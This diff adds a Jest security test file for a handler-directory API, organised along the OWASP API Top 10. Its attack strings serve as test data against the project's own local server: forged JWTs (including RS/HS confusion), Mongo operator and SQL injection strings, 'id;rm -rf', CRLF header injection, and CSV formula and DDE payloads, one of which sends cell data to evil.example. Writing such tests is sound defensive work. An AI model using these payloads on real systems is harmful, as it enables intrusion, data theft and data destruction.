@@ -1,0 +1,531 @@
+// Attacks on the handler directory, along the OWASP API Security Top 10 (2023). Where each item
+// is covered:
+//
+// API1 Broken object level authorization: the directory has no objects owned by one account
+//   (handlers are shared by all administrators); what an account may do is API5.
+// API2 Broken authentication
+//   auth.test.ts        no/garbage token, expired, other secret, tampered, alg none, HS512,
+//                       other issuer/audience, missing claims, nbf in the future, no such
+//                       account, disabled and deleted accounts, role taken from the account;
+//                       one 401 for unknown user, wrong password and disabled account; 429 with
+//                       Retry-After after 5 failures per client and username (password unchecked)
+//   attacks.test.ts     RS256 and HS/RS confusion, future iat, unknown-user and wrong-password
+//                       logins take the same time (medians within a measured tolerance)
+// API3 Broken object property level authorization
+//   users.test.ts       read-only fields sent back (_id, createdAt, updatedAt, __v) are ignored
+//   fuzz.test.ts        every fuzzed answer scanned for password hashes and internal fields
+//                       (nameSort, __v); 2xx bodies closed by the contract
+//   attacks.test.ts     mass assignment of role, id, nameSort, passwordHash, status, stock,
+//                       created_at through every write body (login included) is 400, nothing
+//                       changes
+// API4 Unrestricted resource consumption
+//   operations.test.ts  413 over 100 kB, 429 with Retry-After; auth.test.ts login 429
+//   export.test.ts      10,000-handler export streams with flat memory
+//   attacks.test.ts     slow-loris bodies and headers cut off (408, connection closed) on a real
+//                       server with a shortened request timeout; radius_km over 20000 is 400;
+//                       MongoDB stopped: 503 in the German envelope (never 500 or a hang), and
+//                       after a restart on the same port everything works again with no data
+//                       lost (infra/test/soak.test.ts does the same under load)
+// API5 Broken function level authorization
+//   users.test.ts       a viewer reads but every write is 403 and changes nothing; no token: 401
+// API8 Security misconfiguration: 500s never show stacks (operations.test.ts, fuzz)
+// Injection
+//   users.test.ts       $-prefixed and dotted keys at any depth in POST /api/users: 400
+//   auth.test.ts        login fields that are not strings ({"$ne": null}): 400
+//   fuzz.test.ts        operator objects, $/. keys, __proto__, depth bombs in every body
+//   attacks.test.ts     Mongo operators in every field of every body and in query keys (400,
+//                       nothing written); SQL metacharacters stored verbatim; X-Request-Id
+//                       header injection (raw socket)
+//   export.test.ts      CSV formula injection neutralised for handlers created through the API
+//                       or present in the database
+//   attacks.test.ts     formulas set through the update operations, every cell of both CSV
+//                       dialects checked
+import { createHmac, generateKeyPairSync, sign } from 'node:crypto';
+import { mkdtempSync, rmSync } from 'node:fs';
+import net from 'node:net';
+import os from 'node:os';
+import path from 'node:path';
+import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
+import { startMongoWireServer } from '@dogshop/mongo-wire-server';
+import type { FastifyInstance } from 'fastify';
+import { parseString } from 'fast-csv';
+import { buildApp } from '../src/app.js';
+import { MESSAGES } from '../src/messages.js';
+import { JWT_AUDIENCE, JWT_ISSUER } from '../src/plugins/auth.js';
+import { createAdmin } from '../src/services/admins.js';
+import { ADMIN, TEST_JWT_SECRET, createTestApp, testConfig, type TestApp } from './support/app.js';
+import { expectDirectoryError } from './support/contract.js';
+import { createHandler } from './support/handlers.js';
+import { operationsOf, readDocument } from './support/openapi-fuzz.js';
+import { bearer } from './support/tokens.js';
+
+const operations = operationsOf(
+  readDocument(new URL('../../../openapi/handler-directory.json', import.meta.url)),
+);
+
+let t: TestApp;
+let handlerId: string;
+
+beforeAll(async () => {
+  t = await createTestApp({ loginMaxFailures: 1_000 });
+  handlerId = (await createHandler(t, { name: 'Ziel', gps: { lat: 52, lng: 10 } }))._id;
+});
+afterAll(() => t?.close());
+
+/** A valid request for every operation that takes a body, by operationId. */
+function writeRequests(): Record<
+  string,
+  { method: 'POST' | 'PUT'; url: string; token?: string; body: Record<string, unknown> }
+> {
+  return {
+    login: { method: 'POST', url: '/api/auth/login', body: { ...ADMIN } },
+    createHandler: {
+      method: 'POST',
+      url: '/api/users',
+      token: t.admin.token,
+      body: { name: 'Neu', phone: '1', address: 'Weg 1', type: 'SW', gps: { lat: 1, lng: 2 } },
+    },
+    updateHandler: {
+      method: 'PUT',
+      url: `/api/users/${handlerId}`,
+      token: t.admin.token,
+      body: { phone: '2' },
+    },
+    setHandlerAvailability: {
+      method: 'PUT',
+      url: `/api/users/${handlerId}/availability`,
+      token: t.admin.token,
+      body: { available: true },
+    },
+    setHandlerGps: {
+      method: 'PUT',
+      url: `/api/users/${handlerId}/gps`,
+      token: t.admin.token,
+      body: { lat: 52, lng: 10 },
+    },
+  };
+}
+const bodyOperations = () => operations.filter((op) => op.body);
+const send = (r: ReturnType<typeof writeRequests>[string], body: unknown) =>
+  t.app.inject({
+    method: r.method,
+    url: r.url,
+    headers: r.token ? bearer(r.token) : {},
+    payload: body as object,
+  });
+
+async function snapshot() {
+  const [handlers, admins] = await Promise.all([
+    t.app.db.handlers.find({}).sort({ _id: 1 }).lean(),
+    t.app.db.admins.find({}).sort({ _id: 1 }).lean(),
+  ]);
+  return { handlers, admins };
+}
+
+const b64url = (value: object) => Buffer.from(JSON.stringify(value)).toString('base64url');
+function adminClaims(extra: Record<string, unknown> = {}) {
+  const now = Math.floor(Date.now() / 1000);
+  return {
+    sub: t.admin.id,
+    username: t.admin.username,
+    role: 'admin',
+    iss: JWT_ISSUER,
+    aud: JWT_AUDIENCE,
+    iat: now,
+    exp: now + 3600,
+    ...extra,
+  };
+}
+const hs256 = (
+  payload: object,
+  header: object = { alg: 'HS256', typ: 'JWT' },
+  secret: string | Buffer = TEST_JWT_SECRET,
+) => {
+  const input = `${b64url(header)}.${b64url(payload)}`;
+  return `${input}.${createHmac('sha256', secret).update(input).digest('base64url')}`;
+};
+const listWith = (token: string) =>
+  t.app.inject({ method: 'GET', url: '/api/users', headers: bearer(token) });
+const median = (values: number[]) => {
+  const sorted = [...values].sort((a, b) => a - b);
+  const mid = (sorted.length - 1) / 2;
+  return (sorted[Math.floor(mid)]! + sorted[Math.ceil(mid)]!) / 2;
+};
+
+describe('API2: authentication', () => {
+  const { privateKey, publicKey } = generateKeyPairSync('rsa', { modulusLength: 2048 });
+  const publicPem = publicKey.export({ type: 'spki', format: 'pem' });
+
+  it.each([
+    [
+      'RS256, signed with an RSA key',
+      () => {
+        const input = `${b64url({ alg: 'RS256', typ: 'JWT' })}.${b64url(adminClaims())}`;
+        return `${input}.${sign('sha256', Buffer.from(input), privateKey).toString('base64url')}`;
+      },
+    ],
+    [
+      'RS256 in the header, HMAC-signed with the secret',
+      () => hs256(adminClaims(), { alg: 'RS256', typ: 'JWT' }),
+    ],
+    [
+      'HS256 keyed with an RSA public key (HS/RS confusion)',
+      () => hs256(adminClaims(), undefined, publicPem),
+    ],
+    ['issued an hour in the future', () => hs256(adminClaims({ iat: Date.now() / 1000 + 3600 }))],
+    ['with a non-numeric iat', () => hs256(adminClaims({ iat: 'now' }))],
+  ])('refuses a token %s with 401', async (_label, token) => {
+    expectDirectoryError(await listWith(token()), 401, MESSAGES.tokenInvalid);
+  });
+
+  it('accepts a token whose iat is a few seconds ahead (clock skew between servers)', async () => {
+    const token = hs256(adminClaims({ iat: Math.floor(Date.now() / 1000) + 20 }));
+    expect((await listWith(token)).statusCode).toBe(200);
+  });
+
+  // Measured here (6 rounds of 25 interleaved pairs): medians 16.1–19.2 ms for both, differences
+  // ≤ 0.8 ms. Skipping the hash for unknown users would make them ~14 ms faster. Tolerance: 25%
+  // of the slower median (about 4 ms). Throttling is lifted for this app (loginMaxFailures 1000).
+  it('takes as long for an unknown username as for a wrong password (medians within 25%)', async () => {
+    const login = async (username: string) => {
+      const started = performance.now();
+      const res = await t.app.inject({
+        method: 'POST',
+        url: '/api/auth/login',
+        payload: { username, password: 'not the password at all' },
+      });
+      expect(res.statusCode).toBe(401);
+      return performance.now() - started;
+    };
+    for (let i = 0; i < 3; i++) await Promise.all([login('warm.up'), login(ADMIN.username)]);
+    const unknown: number[] = [];
+    const wrong: number[] = [];
+    for (let i = 0; i < 25; i++) {
+      unknown.push(await login(`niemand.${i}`));
+      wrong.push(await login(ADMIN.username));
+    }
+    const [a, b] = [median(unknown), median(wrong)];
+    expect(Math.abs(a - b)).toBeLessThanOrEqual(0.25 * Math.max(a, b));
+  });
+});
+
+describe('API3: property level authorization (mass assignment)', () => {
+  it('has a valid request for every operation with a body in the document', () => {
+    expect(Object.keys(writeRequests()).sort()).toEqual(
+      bodyOperations()
+        .map((op) => op.operationId)
+        .sort(),
+    );
+  });
+
+  it('refuses role, id, nameSort, passwordHash, status, stock and created_at in every write body with 400', async () => {
+    const before = await snapshot();
+    const requests = writeRequests();
+    let attempts = 0;
+    for (const op of bodyOperations()) {
+      const request = requests[op.operationId]!;
+      for (const field of [
+        'role',
+        'id',
+        'nameSort',
+        'passwordHash',
+        'status',
+        'stock',
+        'created_at',
+        'disabledAt',
+      ]) {
+        const res = await send(request, { ...request.body, [field]: 'admin' });
+        expectDirectoryError(res, 400, new RegExp(`unknown field '${field}'`));
+        attempts += 1;
+      }
+    }
+    expect(attempts).toBe(bodyOperations().length * 8);
+    expect(await snapshot()).toEqual(before);
+  });
+});
+
+/** A raw HTTP exchange: writes `parts` (waiting `pause` ms between them), reads until closed. */
+function rawExchange(port: number, parts: string[], pause: number, maxMs: number) {
+  return new Promise<{ text: string; closedAfterMs: number; partsWritten: number }>(
+    (resolve, reject) => {
+      const started = Date.now();
+      const socket = net.connect(port, '127.0.0.1');
+      let text = '';
+      let written = 0;
+      let timer: NodeJS.Timeout | undefined;
+      const writeNext = () => {
+        if (socket.destroyed || written >= parts.length) return;
+        socket.write(parts[written]!);
+        written += 1;
+        timer = setTimeout(writeNext, pause);
+      };
+      const guard = setTimeout(() => {
+        socket.destroy();
+        reject(new Error(`the server kept the connection open for ${maxMs} ms: ${text}`));
+      }, maxMs);
+      socket.on('connect', writeNext);
+      socket.on('data', (chunk) => (text += chunk.toString('latin1')));
+      socket.on('error', () => {});
+      socket.on('close', () => {
+        clearTimeout(timer);
+        clearTimeout(guard);
+        resolve({ text, closedAfterMs: Date.now() - started, partsWritten: written });
+      });
+    },
+  );
+}
+
+async function listening(app: FastifyInstance): Promise<number> {
+  await app.listen({ port: 0, host: '127.0.0.1' });
+  return (app.server.address() as net.AddressInfo).port;
+}
+
+describe('API4: resource consumption', () => {
+  it('cuts off slow-loris bodies and headers after the request timeout (408, closed), serving others meanwhile', async () => {
+    const slow = await createTestApp({ requestTimeoutMs: 1_000 });
+    try {
+      const port = await listening(slow.app);
+      const head = `POST /api/users HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer ${slow.admin.token}\r\nContent-Type: application/json\r\nContent-Length: 400\r\n\r\n`;
+      const [slowBody, slowHeaders, normal] = await Promise.all([
+        rawExchange(port, [head, ...Array.from({ length: 40 }, () => ' ')], 200, 6_000),
+        rawExchange(
+          port,
+          'GET /api/public/users HTTP/1.1\r\nHost: x\r\nX-Trickle: '.split(''),
+          200,
+          6_000,
+        ),
+        (async () => {
+          await new Promise((resolve) => setTimeout(resolve, 300));
+          return fetch(`http://127.0.0.1:${port}/api/public/users`);
+        })(),
+      ]);
+      for (const cut of [slowBody, slowHeaders]) {
+        expect(cut.text).toMatch(/^HTTP\/1\.1 408 /);
+        expect(cut.closedAfterMs).toBeGreaterThanOrEqual(1_000);
+        expect(cut.closedAfterMs).toBeLessThan(3_000);
+        expect(cut.partsWritten).toBeLessThan(16);
+      }
+      expect(normal.status).toBe(200);
+      expect(await slow.app.db.handlers.countDocuments({})).toBe(0);
+    } finally {
+      await slow.close();
+    }
+  });
+
+  it('refuses a search radius over 20000 km with 400', async () => {
+    expectDirectoryError(
+      await t.app.inject({ method: 'GET', url: '/api/public/users?lat=1&lng=2&radius_km=20001' }),
+      400,
+      /radius_km/,
+    );
+  });
+
+  it('answers 503 in the German envelope while MongoDB is down, and recovers with nothing lost once it is back', async () => {
+    const dir = mkdtempSync(path.join(os.tmpdir(), 'hd-outage-'));
+    const persistPath = path.join(dir, 'data.json');
+    let server = await startMongoWireServer({ persistPath, log: () => {} });
+    const app = await buildApp(testConfig({ mongodbUri: `${server.uri}/outage` }));
+    try {
+      await app.ready();
+      const admin = await createAdmin(app.db, {
+        username: 'outage.admin',
+        password: 'outage-password-1',
+      });
+      const token = app.signAdminToken(admin);
+      const created = await app.inject({
+        method: 'POST',
+        url: '/api/users',
+        headers: bearer(token),
+        payload: { name: 'Vor dem Ausfall', phone: '1' },
+      });
+      expect(created.statusCode).toBe(201);
+
+      await server.close();
+      const started = performance.now();
+      for (const request of [
+        { method: 'GET', url: '/api/public/users' },
+        { method: 'GET', url: '/api/users', headers: bearer(token) },
+        {
+          method: 'POST',
+          url: '/api/users',
+          headers: bearer(token),
+          payload: { name: 'X', phone: '1' },
+        },
+        { method: 'GET', url: '/api/users/export?format=csv', headers: bearer(token) },
+        {
+          method: 'POST',
+          url: '/api/auth/login',
+          payload: { username: 'outage.admin', password: 'x' },
+        },
+      ] as const) {
+        expectDirectoryError(await app.inject(request), 503, MESSAGES.unavailable);
+      }
+      expect(performance.now() - started).toBeLessThan(10_000);
+      expect((await app.inject({ method: 'GET', url: '/ready' })).statusCode).toBe(503);
+
+      server = await startMongoWireServer({ persistPath, port: server.port, log: () => {} });
+      let ready = 0;
+      for (let i = 0; i < 50 && ready !== 200; i++) {
+        ready = (await app.inject({ method: 'GET', url: '/ready' })).statusCode;
+        if (ready !== 200) await new Promise((resolve) => setTimeout(resolve, 100));
+      }
+      expect(ready).toBe(200);
+      const list = await app.inject({ method: 'GET', url: '/api/users', headers: bearer(token) });
+      expect(list.statusCode).toBe(200);
+      expect(list.json().data.map((h: { name: string }) => h.name)).toEqual(['Vor dem Ausfall']);
+    } finally {
+      await app.close();
+      await server.close();
+      rmSync(dir, { recursive: true, force: true });
+    }
+  });
+});
+
+function parseCsv(text: string, delimiter: string): Promise<Array<Record<string, string>>> {
+  return new Promise((resolve, reject) => {
+    const rows: Array<Record<string, string>> = [];
+    parseString(text.replace(/^\ufeff/, ''), { headers: true, delimiter })
+      .on('error', reject)
+      .on('data', (row: Record<string, string>) => rows.push(row))
+      .on('end', () => resolve(rows));
+  });
+}
+
+const SQL = ["' OR '1'='1", "'; DROP TABLE handlers; --", '" OR ""="', '\\', '%_ $1 /* */'];
+
+describe('injection', () => {
+  it('refuses Mongo operators in every field of every body and in query keys with 400, writing nothing', async () => {
+    const before = await snapshot();
+    const requests = writeRequests();
+    let attempts = 0;
+    for (const op of bodyOperations()) {
+      const request = requests[op.operationId]!;
+      for (const field of Object.keys(op.body!.properties ?? {})) {
+        for (const operator of [{ $ne: null }, { $gt: '' }, { $regex: '.*' }, { $where: '1' }]) {
+          expectDirectoryError(await send(request, { ...request.body, [field]: operator }), 400);
+          attempts += 1;
+        }
+      }
+      expectDirectoryError(
+        await send(request, { ...request.body, $set: { available: false } }),
+        400,
+      );
+      expectDirectoryError(await send(request, { $or: [request.body] }), 400);
+      attempts += 2;
+    }
+    for (const query of ['lat[$gt]=0&lng=1', 'available=false', '$where=1', 'name[$regex]=.*']) {
+      expectDirectoryError(
+        await t.app.inject({ method: 'GET', url: `/api/public/users?${query}` }),
+        400,
+      );
+      attempts += 1;
+    }
+    expect(attempts).toBeGreaterThan(50);
+    expect(await snapshot()).toEqual(before);
+  });
+
+  it('stores SQL metacharacters in every text field verbatim', async () => {
+    for (const value of SQL) {
+      const body = { name: `N ${value}`, phone: value, address: value, type: value };
+      const created = await t.request({
+        method: 'POST',
+        url: '/api/users',
+        payload: body,
+        as: t.admin,
+      });
+      expect(created.statusCode).toBe(201);
+      const id = created.json().data._id;
+      const read = await t.request({ method: 'GET', url: `/api/users/${id}`, as: t.viewer });
+      expect(read.json().data).toMatchObject(body);
+    }
+  });
+
+  it('neutralises formulas set through the update operations, in every text cell of both CSV dialects', async () => {
+    const formulas = [
+      '=HYPERLINK("http://evil.example/?"&A1,"klick")',
+      "=cmd|' /C calc'!A0",
+      '+49 171 5550123',
+      '-2+3',
+      '@SUM(1+1)*cmd|" /C calc"!A0',
+      ' =1+1', // trimmed to "=1+1"
+    ];
+    const id = (await createHandler(t, { name: 'Harmlos', phone: '1' }))._id;
+    for (const [i, formula] of formulas.entries()) {
+      const field = (['name', 'phone', 'address', 'type'] as const)[i % 4]!;
+      const res = await t.request({
+        method: 'PUT',
+        url: `/api/users/${id}`,
+        payload: { [field]: formula, ...(field === 'name' ? {} : { name: `=Name ${i}` }) },
+        as: t.admin,
+      });
+      expect(res.statusCode).toBe(200);
+      for (const delimiter of [',', ';']) {
+        const query = delimiter === ';' ? '&delimiter=semicolon' : '';
+        const csv = await t.request({
+          method: 'GET',
+          url: `/api/users/export?format=csv${query}`,
+          as: t.viewer,
+        });
+        const rows = await parseCsv(csv.body, delimiter);
+        const row = rows.find((r) => r.id === id)!;
+        expect(row[field]).toBe(`'${formula.trim()}`);
+        for (const r of rows) {
+          for (const column of ['name', 'address', 'phone', 'type'] as const) {
+            expect({ column, cell: r[column] }).toEqual({
+              column,
+              cell: expect.not.stringMatching(/^[=+\-@\t\r]/),
+            });
+          }
+        }
+      }
+    }
+    // The JSON export and the API show the text as stored.
+    const json = await t.request({ method: 'GET', url: `/api/users/${id}`, as: t.viewer });
+    expect(json.json().data.name).toBe('=Name 5');
+  });
+
+  it('never lets X-Request-Id inject headers: unsafe ids are replaced, CR/LF never reach the response', async () => {
+    for (const hostile of [
+      '<script>',
+      'a b',
+      'id;rm -rf',
+      '%0d%0aSet-Cookie:x=1',
+      'ä',
+      'x'.repeat(129),
+      '',
+    ]) {
+      const res = await t.app.inject({
+        method: 'GET',
+        url: '/health',
+        headers: { 'x-request-id': hostile },
+      });
+      expect(res.headers['x-request-id']).toMatch(
+        /^[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}$/,
+      );
+      expect(res.headers['set-cookie']).toBeUndefined();
+    }
+    const twin = await createTestApp();
+    try {
+      const port = await listening(twin.app);
+      for (const header of [
+        'X-Request-Id: abc\r\n Set-Cookie: pwned=1',
+        'X-Request-Id: abc\rSet-Cookie: pwned=1',
+        'X-Request-Id: abc\nSet-Cookie: pwned=1',
+        'X-Request-Id: abc\u0000Set-Cookie: pwned=1',
+      ]) {
+        const { text } = await rawExchange(
+          port,
+          [`GET /health HTTP/1.1\r\nHost: x\r\n${header}\r\nConnection: close\r\n\r\n`],
+          0,
+          3_000,
+        );
+        const [head] = text.split('\r\n\r\n');
+        expect(head).toMatch(/^HTTP\/1\.1 (200|400) /);
+        expect(head).not.toMatch(/^set-cookie:/im);
+        expect(head).not.toMatch(/pwned/);
+      }
+    } finally {
+      await twin.close();
+    }
+  });
+});
